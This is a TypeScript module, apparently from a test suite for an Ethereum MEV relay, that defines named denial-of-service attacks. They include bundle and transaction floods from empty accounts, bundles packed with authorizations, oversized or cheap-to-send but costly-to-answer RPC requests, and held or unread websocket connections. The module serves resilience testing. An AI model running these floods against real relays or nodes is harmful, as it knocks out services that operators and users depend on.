// The attacks by name: with free keys, with transactions of empty accounts, with requests that are
// cheap to send and expensive to answer. They run in the attacker's process, with parameters from
// the test.

import { createBodySigner, createKey } from "../../../shared/ethereum/signatures.ts";
import { rawTransaction, type TxOptions, testAccount } from "../txFactory.ts";
import { type FloodRequest, flood, type Tally } from "./flood.ts";
import { holdIdle, holdLogReaders, holdUnread, pingAll } from "./heldSockets.ts";
import { openFilters, pollFilters } from "./polledFilters.ts";
import { type Filling, fillingTransaction } from "./poolFilling.ts";

/** The parameters of an attack. */
export interface AttackParams {
	/** The URL of the relay or boost. */
	readonly url: string;
	/** The attacker's network address. */
	readonly from: string;
	/** The web page that has a browser send the requests. */
	readonly origin?: string;
	/** Number of requests or connections. */
	readonly count: number;
	readonly connections?: number;
	/** After this many ms no further request begins. */
	readonly lastingMs?: number;
	/** After this many ms a request without an answer is given up. */
	readonly patienceMs?: number;
	/** Number of keys that sign the requests in turn. Default 0: unsigned. */
	readonly keys?: number;
	/** Number of different requests that are made before the first is sent. */
	readonly made?: number;
	/** Number of the next block, or of the block that bids are for. */
	readonly block?: number;
	/** Bytes of calldata, gas, accounts or subscriptions, see each attack. */
	readonly size?: number;
	/** The transactions' fee cap, in wei per gas. */
	readonly fee?: number;
	/** Index of its first account. */
	readonly accounts?: number;
	/** The kind of transactions that fill the pool, and the number of the first one. */
	readonly filling?: Filling;
	readonly begin?: number;
	/** Hash of the transaction that is bid on. */
	readonly target?: string;
	/** Address of a contract to call, or whose events are wanted. */
	readonly to?: string;
	/** The `replacementUuid` of bids. */
	readonly uuid?: string;
	/** Whether all filters of logs are equal. */
	readonly isEqual?: boolean;
	/** Whether what comes on a websocket is read. */
	readonly reads?: boolean;
}

const CONNECTIONS = 32;
const LASTING_MS = 60_000;
const PATIENCE_MS = 30_000;
const GWEI = 10n ** 9n;
const ETHER = GWEI * GWEI;
/** Number of blocks in a range behind the first: the most. */
const RANGE = 29;
/** Gas of a transaction with authorizations, and of each of them. */
const [AUTHORIZED_GAS, AUTHORIZATION_GAS] = [71_000, 25_000];
/** Transactions of a bundle, and how many of them have authorizations. */
const [CROWD, AUTHORIZING] = [100, 2];

/**
 * Each ends when all is sent and answered. Open connections stay until the attacker's process ends.
 */
export const ATTACKS: Readonly<Record<string, (params: AttackParams) => Promise<Tally>>> = {
	/** mev_sendBundle with one transaction each, from empty accounts. */
	plainBundles: (params) =>
		floodOf(params, (i) => shareBundle(params, [{ tx: raw({ by: account(params, i), value: ETHER }) }])),

	/** mev_sendBundle with transactions of `size` accounts each. */
	crowdedBundles: (params) =>
		floodOf(params, (i) => {
			const size = params.size ?? 100;
			const body = Array.from({ length: size }, (_, j) => ({
				tx: raw({ by: account(params, i * size + j) }),
			}));
			return shareBundle(params, body);
		}),

	/**
	 * mev_sendBundle of 100 transactions of the accounts from `accounts` on, of which two have `size`
	 * authorizations each: `made` different ones that are made first, and sent in turn.
	 */
	authorizations: (params) => {
		const { made = 1 } = params;
		const bundles = Array.from({ length: made }, (_, i) => {
			const body = Array.from({ length: CROWD }, (_, j) => {
				const by = account(params, j);
				const fees = { maxFeePerGas: 3n * GWEI };
				if (j >= AUTHORIZING) return { tx: raw({ by, gasLimit: 21_000, ...fees }) };
				const count = params.size ?? 1;
				const authorizations = Array.from({ length: count }, (_, k) => ({
					...{ by: account(params, CROWD), chainId: 0n, nonce: 0n },
					address: `0x${((i * AUTHORIZING + j) * count + k).toString(16).padStart(40, "0")}`,
				}));
				return {
					tx: raw({
						type: 4,
						by,
						gasLimit: AUTHORIZED_GAS + AUTHORIZATION_GAS * count,
						authorizations,
						...fees,
					}),
				};
			});
			return shareBundle(params, body);
		});
		return floodOf(params, (i) => bundles[i % made] as Call);
	},

	/** Transactions after a nonce gap with `size` bytes of calldata, from empty accounts. */
	gapped: (params) => {
		const data = Buffer.alloc(params.size ?? 0, 0x5a);
		const fees = { maxFeePerGas: params.fee ?? 0, maxPriorityFeePerGas: 0 };
		return floodOf(
			params,
			(i) => submission({ by: account(params, i), nonce: 9, gasLimit: 16_000_000, data, ...fees }),
			"/fast",
		);
	},

	/** Bids on `target` that burn `size` gas. */
	heavyBids: (params) => {
		const blockNumber = params.block === undefined ? undefined : quantity(params.block);
		return floodOf(params, (i) => {
			const by = account(params, 0);
			const gasLimit = params.size ?? 16_000_000;
			const backrun = raw({
				by,
				gasLimit,
				to: params.to ?? null,
				value: i + 1,
				maxFeePerGas: 2n * GWEI,
			});
			return {
				method: "eth_sendBundle",
				params: [{ txs: [params.target, backrun], replacementUuid: params.uuid, blockNumber }],
			};
		});
	},

	/** eth_callMany with `size` empty calls. */
	emptyCalls: (params) => {
		const text = call("eth_callMany", `[[{"transactions":[${"{},".repeat((params.size ?? 1) - 1)}{}]}]]`);
		return floodOf(params, () => text);
	},

	/** Reads whose block parameter is an object with `size` keys. */
	blockObjects: (params) => {
		const keys = Array.from({ length: params.size ?? 1 }, (_, i) => `"${i.toString(36)}":0`).join(",");
		const address = `"${account(params, 0).address}"`;
		const texts = [
			call("eth_getBalance", `[${address},{${keys}}]`),
			call("eth_call", `[{"to":${address}},{${keys}}]`),
			call("eth_callMany", `[[{"transactions":[{"to":${address}}],"blockOverride":{${keys}}}]]`),
			call("eth_callMany", `[[{"transactions":[{"to":${address}}]}],{"blockNumber":{${keys}}}]`),
		];
		return floodOf(params, (i) => texts[i % texts.length] ?? "");
	},

	/** eth_call, each with other calldata so that no answer is shared. */
	calls: (params) =>
		floodOf(params, (i) => ({
			method: "eth_call",
			params: [{ to: account(params, 0).address, data: numbered(i) }, "latest"],
		})),

	/** eth_newFilter, each for another address. */
	newFilters: (params) =>
		floodOf(params, (i) => ({ method: "eth_newFilter", params: [{ address: account(params, i).address }] })),

	/** eth_cancelTransaction of `target`. */
	cancels: (params) => floodOf(params, () => ({ method: "eth_cancelTransaction", params: [params.target] })),

	/** eth_getProof. */
	proofs: (params) =>
		floodOf(params, (i) => ({ method: "eth_getProof", params: [account(params, i).address, [], "latest"] })),

	/** rpc.discover. */
	discoveries: (params) => floodOf(params, () => ({ method: "rpc.discover", params: [] })),

	/** A cheap call in a request with `size` useless bytes. */
	largeCalls: (params) => {
		const text = call("eth_chainId", "[]").replace("}", `,"x":"${"x".repeat(params.size ?? 0)}"}`);
		return floodOf(params, () => text);
	},

	/** Transactions with `size` bytes of calldata that searchers see. */
	shown: (params) => {
		const data = Buffer.alloc(params.size ?? 0, 0x5a);
		return floodOf(
			params,
			(i) => submission({ by: account(params, i), gasLimit: 16_000_000, maxFeePerGas: 2n * GWEI, data }),
			"/maxbackruns",
		);
	},

	/** Transactions whose fee cap is `fee`. */
	waiting: (params) =>
		floodOf(
			params,
			(i) =>
				submission({
					...{ by: account(params, i), gasLimit: 21_000 },
					...{ maxFeePerGas: params.fee ?? 0, maxPriorityFeePerGas: 0 },
				}),
			"/fast",
		),

	/** Transactions of the kind `filling`, from number `begin` on. */
	filling: (params) => {
		const { filling = "calldata", begin = 0, accounts = 1_000_000 } = params;
		return floodOf(params, (i) => submission(fillingTransaction(filling, accounts, begin + i)), "/fast");
	},

	/** Connections on which nothing is sent. */
	idle: holdIdle,
	/** Websockets with `size` subscriptions to pending transactions each, which are never read. */
	unread: holdUnread,
	/** Websockets with `size` subscriptions to the events of `to` each. */
	logReaders: holdLogReaders,
	/** Websockets that send pings without an end, for `lastingMs`. */
	pings: pingAll,
	/**
	 * Filters of the events of `to`; and polls of all that were opened, `count` times, `size` in a
	 * batch.
	 */
	filters: openFilters,
	polls: pollFilters,
};

interface Call {
	readonly method: string;
	readonly params: readonly unknown[];
}

/**
 * A flood of `params.count` requests; `bodyOf` returns the JSON text or the call for each number.
 */
function floodOf(params: AttackParams, bodyOf: (i: number) => Call | string, path = "/"): Promise<Tally> {
	const signers = Array.from({ length: params.keys ?? 0 }, () => createBodySigner(createKey()));
	function* requests(): Iterable<FloodRequest> {
		for (let i = 0; i < params.count; i++) {
			const made = bodyOf(i);
			const body = typeof made === "string" ? made : JSON.stringify({ jsonrpc: "2.0", id: i, ...made });
			const signer = signers[i % signers.length];
			const signature = signer === undefined ? {} : { "x-flashbots-signature": signer.sign(body) };
			const origin = params.origin === undefined ? {} : { origin: params.origin };
			yield { body, path, headers: { ...signature, ...origin } };
		}
	}
	return flood(requests(), {
		url: params.url,
		from: params.from,
		connections: params.connections ?? CONNECTIONS,
		lastingMs: params.lastingMs ?? LASTING_MS,
		patienceMs: params.patienceMs ?? PATIENCE_MS,
	});
}

function call(method: string, params: string): string {
	return `{"jsonrpc":"2.0","id":1,"method":"${method}","params":${params}}`;
}

function submission(options: TxOptions): Call {
	return { method: "eth_sendRawTransaction", params: [raw(options)] };
}

function shareBundle({ block = 1 }: AttackParams, body: readonly object[]): Call {
	const inclusion = { block: quantity(block), maxBlock: quantity(block + RANGE) };
	return {
		method: "mev_sendBundle",
		params: [{ version: "v0.1", inclusion, body: body.map((entry) => ({ ...entry, canRevert: false })) }],
	};
}

function raw(options: TxOptions): string {
	return `0x${rawTransaction(options).toString("hex")}`;
}

function account({ accounts = 1_000_000 }: AttackParams, i: number) {
	return testAccount(accounts + i);
}

function numbered(i: number): string {
	return `0x${i.toString(16).padStart(64, "0")}`;
}

function quantity(value: number): string {
	return `0x${value.toString(16)}`;
}
